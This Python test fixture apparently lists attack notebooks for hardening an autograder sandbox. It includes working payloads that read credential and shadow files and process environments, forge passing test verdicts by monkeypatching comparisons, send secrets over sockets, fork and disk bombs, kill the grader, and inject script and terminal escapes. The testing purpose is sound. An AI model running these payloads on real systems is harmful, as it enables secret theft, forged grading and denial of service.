"""The red team's notebooks: each is the reference solution with one attack.

An attack replaces the solution's q1 code cell. It defines q1's two
functions wrongly, or not at all (so q1 must earn nothing), and carries its
payload at the cell's top level, inside those functions (so it also runs in
every q1 check's copy of the process), or both. Whatever a payload manages to read, it prints
and raises, so a leak would reach the feedback page or results.json, where
the tests look for it. ``sabotage`` marks attacks that, by design, wreck
their own process, so other questions may lose points too.

Placeholders filled in by the test: TOKEN (a secret in the grader's
environment and in a file outside the scratch), SECRET_FILE, OUT (the
feedback folder), SUBS (the submissions folder), MARK (a prefix of files an
attack tries to create outside its scratch), PORT (a TCP and UDP listener on
loopback), UNIX_SOCKET (a listening Unix socket), GRADER_PID.
"""
from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    name: str
    code: str
    sabotage: bool = False


@dataclass(frozen=True)
class FileAttack:
    """A malicious notebook file. ``graded``: whether the grader should still grade it (with
    q1 earning nothing when ``q1_zero``) or refuse it with a one-line error."""

    name: str
    graded: bool
    q1_zero: bool = True


def q1_with(payload: str, *, top: str = "") -> str:
    """Both q1 functions replaced by ones that run ``payload`` and fail with what it found."""
    body = "\n".join("    " + line for line in payload.strip().splitlines())
    return f"""
import os, sys, torch
{top.strip()}

def l1_penalty(w):
{body}
    raise RuntimeError("attack result: " + repr(found)[:3000])

def l1_sgd_update(w, grad, lr, lambd):
    return l1_penalty(w)
"""


def _read_all(paths: str) -> str:
    return f"""
found = []
for path in {paths}:
    try:
        with open(path, "rb") as f:
            found.append(f.read(4000))
    except Exception as exc:
        found.append(repr(exc))
print(found)
"""


# The assignment's folder is the package the child's helpers were imported from: its path is no secret.
HIDDEN = "os.path.join(list(sys.modules['weight_decay'].__path__)[0], 'checks', 'hidden')"
REPO = "os.path.dirname(os.path.dirname(sys.modules['grader'].__file__))"

ATTACKS = [
    # --- hidden material -------------------------------------------------------
    Attack("read-hidden-checks-from-disk", q1_with(_read_all(
        f"[os.path.join({HIDDEN}, n) for n in ('test_q1_l1.py', 'test_written.py', 'test_q3_sweep.py')]"))),
    Attack("list-hidden-checks", q1_with("""
found = []
for root in (%s, os.path.dirname(%s)):
    try:
        found.append(os.listdir(root))
    except Exception as exc:
        found.append(repr(exc))
""" % (HIDDEN, HIDDEN))),
    Attack("import-hidden-checks", q1_with("""
import importlib, inspect
found = []
for name in ("weight_decay.checks.hidden.test_q1_l1", "weight_decay.checks.hidden.test_written",
             "weight_decay.feedback"):
    try:
        found.append(inspect.getsource(importlib.import_module(name)))
    except BaseException as exc:
        found.append(repr(exc))
""")),
    Attack("read-solutions-and-git-history", q1_with(_read_all(
        f"[os.path.join({REPO}, p) for p in ('solutions/weight_decay/weight_decay.ipynb', '.git/HEAD', "
        "'.git/config', 'tests/gallery.py')]"))),
    Attack("read-installed-package-resources", q1_with("""
import importlib.util, importlib.resources
found = []
try:
    spec = importlib.util.find_spec("weight_decay.checks.hidden.test_written")
    found.append(spec and open(spec.origin).read())
except BaseException as exc:
    found.append(repr(exc))
try:
    found.append(importlib.resources.files("weight_decay.checks.hidden")
                 .joinpath("test_q2_frobenius.py").read_text())
except BaseException as exc:
    found.append(repr(exc))
""")),
    Attack("read-other-submissions", q1_with(_read_all(
        "[os.path.join(SUBS, n) for n in sorted(os.listdir(SUBS))] if os.path.isdir(SUBS) else [SUBS]"),
        top="SUBS = {SUBS!r}")),
    # --- secrets of the host -----------------------------------------------------
    Attack("environment-secrets-via-proc", q1_with("""
found = [dict(os.environ)]
for pid in ["self", "1", str(os.getppid()), str(GRADER_PID)]:
    for name in ("environ", "cmdline"):
        try:
            found.append(open(f"/proc/{pid}/{name}", "rb").read())
        except Exception as exc:
            found.append(repr(exc))
try:
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            found.append(open(f"/proc/{pid}/environ", "rb").read())
except Exception as exc:
    found.append(repr(exc))
""", top="GRADER_PID = {GRADER_PID}")),
    Attack("secret-files-on-disk", q1_with(_read_all(
        "[SECRET_FILE, '/etc/shadow', '/etc/passwd', os.path.expanduser('~root/.bash_history'), "
        "'/root/.ssh/id_rsa', '/proc/self/root' + SECRET_FILE]"), top="SECRET_FILE = {SECRET_FILE!r}")),
    # --- forging the verdict -----------------------------------------------------
    Attack("monkeypatch-torch-comparisons", """
import torch
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.isclose = lambda a, b, *r, **k: torch.ones_like(a, dtype=torch.bool)
torch.Tensor.__eq__ = lambda self, other: True
torch.testing.assert_close = lambda *a, **k: None

def l1_penalty(w):
    return torch.tensor(123.0)

def l1_sgd_update(w, grad, lr, lambd):
    return w.add_(7)
"""),
    Attack("monkeypatch-builtins-and-json", """
import builtins, json, math
builtins.isinstance = lambda *a: True
builtins.float = lambda *a: 0.0
json.dumps = lambda *a, **k: '{"ok": true, "value": 1.0, "blobs": 0}'
json.loads = lambda *a, **k: {"ok": True}
math.isclose = lambda *a, **k: True

def l1_penalty(w):
    return "passed"

def l1_sgd_update(w, grad, lr, lambd):
    return "passed"
"""),
    Attack("monkeypatch-pytest", """
import pytest, _pytest.outcomes, _pytest.runner
pytest.approx = lambda expected, *a, **k: object()
_pytest.outcomes.fail = lambda *a, **k: None
_pytest.runner.call_and_report = lambda *a, **k: None

def l1_penalty(w):
    return None

def l1_sgd_update(w, grad, lr, lambd):
    return None
"""),
    Attack("patch-the-child-runtime", """
import sys
child = sys.modules["grader.sandbox.student_side.child"]

def forged_call(self, header, blobs):
    return {"ok": True, "value": True}, []

child.Runtime.call = forged_call
child.Runtime.describe = lambda self, exc: {"kind": "passed", "message": "all good"}

def l1_penalty(w):
    return None

def l1_sgd_update(w, grad, lr, lambd):
    return None
""", sabotage=True),
    Attack("forge-protocol-frames", """
import os, socket, stat, struct, json
for fd in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            body = json.dumps({"ok": True, "value": True, "blobs": 0, "notes": []}).encode()
            os.write(fd, struct.pack(">I", len(body)) + body)
            os.write(fd, b"\\xff\\xff\\xff\\xff garbage")
    except OSError:
        pass

def l1_penalty(w):
    return None

def l1_sgd_update(w, grad, lr, lambd):
    return None
""", sabotage=True),
    Attack("forge-results-files", q1_with("""
found = []
forged = '{"score": 1000, "tests": []}'
for path in [os.path.join(OUT, d, "results.json") for d in ("forge-results-files", "control")] + [
        "/autograder/results/results.json", os.path.join(os.getcwd(), "..", "results.json"), MARK + "results.json"]:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            f.write(forged)
        found.append("wrote " + path)
    except Exception as exc:
        found.append(repr(exc))
""", top="OUT = {OUT!r}\nMARK = {MARK!r}")),
    Attack("write-into-feedback-folder", q1_with("""
found = []
for path in [os.path.join(OUT, "control", "feedback.html"), os.path.join(OUT, "index.html"), MARK + "feedback.html"]:
    try:
        with open(path, "w") as f:
            f.write("<script>alert('pwned')</script> PWNED-" + TOKEN)
        found.append("wrote " + path)
    except Exception as exc:
        found.append(repr(exc))
""", top="OUT = {OUT!r}\nMARK = {MARK!r}\nTOKEN = 'x'")),
    Attack("lying-dunder-methods", """
import torch

class Liar(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __float__(self): return 0.0
    def __bool__(self): return True
    def __abs__(self): return 0.0
    def __sub__(self, other): return Liar()
    __rsub__ = __sub__
    def __lt__(self, other): return True
    def __le__(self, other): return True

class LyingTensor(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return True

def l1_penalty(w):
    return Liar(-1.0)

def l1_sgd_update(w, grad, lr, lambd):
    return torch.zeros_like(w).as_subclass(LyingTensor)
"""),
    Attack("huge-and-non-finite-tensors", """
import torch

def l1_penalty(w):
    return torch.tensor(float("nan"))

def l1_sgd_update(w, grad, lr, lambd):
    return torch.full((80_000_000,), float("inf"))  # 320 MB: past the grader's cap on one tensor
"""),
    # --- leaving the process -------------------------------------------------------
    Attack("sys-exit-in-cell", """
def l1_penalty(w):
    return 0

def l1_sgd_update(w, grad, lr, lambd):
    return 0

import sys
sys.exit(0)
"""),
    Attack("os-exit-in-cell", """
def l1_penalty(w):
    return 0

import os
os._exit(0)
"""),
    Attack("raise-base-exceptions-in-calls", """
def l1_penalty(w):
    raise KeyboardInterrupt

def l1_sgd_update(w, grad, lr, lambd):
    class Escape(BaseException):
        pass
    import sys
    try:
        sys.exit(0)
    finally:
        raise Escape()
"""),
    Attack("os-exit-in-calls", """
import os

def l1_penalty(w):
    os._exit(0)

def l1_sgd_update(w, grad, lr, lambd):
    os.kill(os.getpid(), 9)
"""),
    # --- time and resources ----------------------------------------------------------
    Attack("infinite-loop-in-calls", """
def l1_penalty(w):
    while True:
        pass

def l1_sgd_update(w, grad, lr, lambd):
    import time
    time.sleep(10_000)
"""),
    Attack("swallow-timeouts-and-sleep-in-cell", """
import signal, time
signal.signal(signal.SIGALRM, signal.SIG_IGN)
signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM})

def l1_penalty(w):
    return 0

def l1_sgd_update(w, grad, lr, lambd):
    return 0

while True:
    try:
        time.sleep(10_000)
    except BaseException:
        pass
"""),
    Attack("memory-bomb", q1_with("""
found = []
hoard = []
try:
    while True:
        hoard.append(bytearray(256 << 20))
except MemoryError as exc:
    found.append(f"stopped after {len(hoard) * 256} MiB")
hoard.clear()
""", top="""
def _bomb():
    hoard = []
    try:
        while True:
            hoard.append(bytearray(256 << 20))
    except MemoryError:
        return len(hoard)
print("cell bomb stopped after", _bomb() * 256, "MiB")
""")),
    Attack("fork-bomb", q1_with("""
found = []
try:
    while True:
        os.fork()
except OSError as exc:
    found.append(repr(exc))
""", top="""
import os
_main = os.getpid()
try:
    for _ in range(10_000):
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    __import__("time").sleep(0.05)
except OSError as exc:
    print("fork stopped:", exc)
"""), sabotage=True),  # the processes it leaves use up the process limit that check copies need
    Attack("thread-bomb", """
import threading, time

def _spin():
    while True:
        time.sleep(0.01)

started = 0
try:
    for _ in range(100_000):
        threading.Thread(target=_spin, daemon=True).start()
        started += 1
except RuntimeError as exc:
    print("threads stopped at", started, exc)

def l1_penalty(w):
    return 0

def l1_sgd_update(w, grad, lr, lambd):
    return 0
""", sabotage=True),
    Attack("disk-bomb", q1_with("""
found = []
for target in (os.getcwd(), "/tmp", "/var/tmp", "/dev/shm", os.path.dirname(MARK)):
    try:
        with open(os.path.join(target, "fill.bin"), "wb") as f:
            while True:
                f.write(b"x" * (8 << 20))
    except OSError as exc:
        found.append((target, repr(exc)))
""", top="""
MARK = {MARK!r}
try:
    with open("fill-in-cell.bin", "wb") as f:
        for _ in range(1000):
            f.write(b"x" * (8 << 20))
except OSError as exc:
    print("disk stopped:", exc)
""")),
    Attack("huge-stdout", """
def l1_penalty(w):
    return 0

def l1_sgd_update(w, grad, lr, lambd):
    return 0

import sys
line = "x" * 1_000_000
for _ in range(100_000):
    sys.stdout.write(line)
"""),
    Attack("background-process-outlives-grade", q1_with("""
found = ["forked"]
""", top="""
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            try:
                with open(os.path.join(os.environ.get("HOME", "."), "alive"), "a") as f:
                    f.write("still here\\n")
            except OSError:
                pass
            time.sleep(0.2)
    os._exit(0)
""")),
    # --- network and other processes -----------------------------------------------
    Attack("sockets-to-loopback", q1_with("""
import socket
found = []
for family, kind, address in ((socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", PORT)),
                              (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", PORT)),
                              (socket.AF_INET6, socket.SOCK_STREAM, ("::1", PORT)),
                              (socket.AF_UNIX, socket.SOCK_STREAM, UNIX_SOCKET)):
    try:
        s = socket.socket(family, kind)
        s.settimeout(1)
        s.connect(address)
        s.sendall(b"leak " + repr(dict(os.environ)).encode())
        found.append(("connected", address))
    except Exception as exc:
        found.append(repr(exc))
""", top="PORT = {PORT}\nUNIX_SOCKET = {UNIX_SOCKET!r}")),
    Attack("signals-to-the-grader", q1_with("""
import signal
found = []
for pid in (os.getppid(), GRADER_PID, -1, 1):
    try:
        os.kill(pid, signal.SIGKILL)
        found.append(("sent", pid))
    except Exception as exc:
        found.append(repr(exc))
""", top="""
import signal
GRADER_PID = {GRADER_PID}
for _pid in (GRADER_PID, os.getppid(), -1):
    try:
        os.kill(_pid, signal.SIGTERM)
    except OSError as exc:
        print("kill refused:", exc)
""")),
    Attack("ptrace-and-process-memory", q1_with("""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
found = []
PTRACE_ATTACH = 16
for pid in (GRADER_PID, os.getppid()):
    found.append(("ptrace", libc.ptrace(PTRACE_ATTACH, pid, None, None), ctypes.get_errno()))
try:
    with open(f"/proc/{GRADER_PID}/mem", "rb") as f:
        found.append(f.read(16))
except Exception as exc:
    found.append(repr(exc))
""", top="GRADER_PID = {GRADER_PID}")),
    # --- running programs ------------------------------------------------------------
    Attack("shell-escapes-and-magics", """
!touch {MARK}bang
!curl http://example.com
get_ipython().system("touch {MARK}system")
files = !ls /
%sx touch {MARK}sx

def l1_penalty(w):
    return 0

def l1_sgd_update(w, grad, lr, lambd):
    return 0
"""),
    Attack("bash-cell-magic", """%%bash
touch {MARK}bash
cat /etc/passwd
"""),
    Attack("subprocess-and-exec", q1_with("""
import subprocess, ctypes
found = []
for attempt in (lambda: subprocess.run(["/bin/sh", "-c", "touch " + MARK + "subprocess"]),
                lambda: os.system("touch " + MARK + "system"),
                lambda: os.execv("/bin/sh", ["sh", "-c", "touch " + MARK + "execv"]),
                lambda: ctypes.CDLL(None).execve(b"/bin/sh", None, None),
                lambda: os.posix_spawn("/bin/sh", ["sh", "-c", "touch " + MARK + "spawn"], {})):
    try:
        found.append(repr(attempt()))
    except Exception as exc:
        found.append(repr(exc))
""", top="""
MARK = {MARK!r}
import os
os.system("touch " + MARK + "cell-system")
""")),
    Attack("namespaces-and-mounts-from-inside", q1_with("""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
found = []
for flags in (0x10000000, 0x00020000, 0x40000000):
    found.append(("unshare", flags, libc.unshare(flags), ctypes.get_errno()))
found.append(("mount", libc.mount(b"none", b"/tmp", b"tmpfs", 0, None), ctypes.get_errno()))
found.append(("chroot", libc.chroot(b"/"), ctypes.get_errno()))
""")),
    # --- output that attacks its reader --------------------------------------------------
    Attack("script-injection-in-feedback", """
import torch
print("<script>alert('out')</script><img src=x onerror=alert(1)>")
Evil = type("<script>alert('type')</script>", (), {})

def l1_penalty(w):
    raise ValueError("<script>alert('msg')</script><a href='javascript:alert(1)'>click</a>")

def l1_sgd_update(w, grad, lr, lambd):
    return Evil()
"""),
    Attack("terminal-escape-injection", """
print("\\x1b]0;pwned title\\x07\\x1b[2J\\x1b[31mRED\\rOVERWRITTEN\\u202egnp.exe")

def l1_penalty(w):
    raise ValueError("\\x1b[2J\\x1b[1;1H all tests passed \\x1b]8;;http://evil\\x07link\\x1b]8;;\\x07")

def l1_sgd_update(w, grad, lr, lambd):
    raise ValueError("\\x9b31m C1 escape")
"""),
]

# Files that are not notebooks a student could have made by accident: made in the test.
FILE_ATTACKS = [
    FileAttack("truncated", graded=False),
    FileAttack("deeply-nested", graded=False),
    FileAttack("duplicate-keys", graded=False),
    FileAttack("huge-outputs", graded=False),
    FileAttack("moderate-outputs-claiming-success", graded=True),
    FileAttack("symlink-to-the-solution", graded=False),
    FileAttack("impersonated-grader-metadata", graded=True),
    FileAttack("terminal-escape-\x1b[2J-in-file-name", graded=True, q1_zero=False),
]
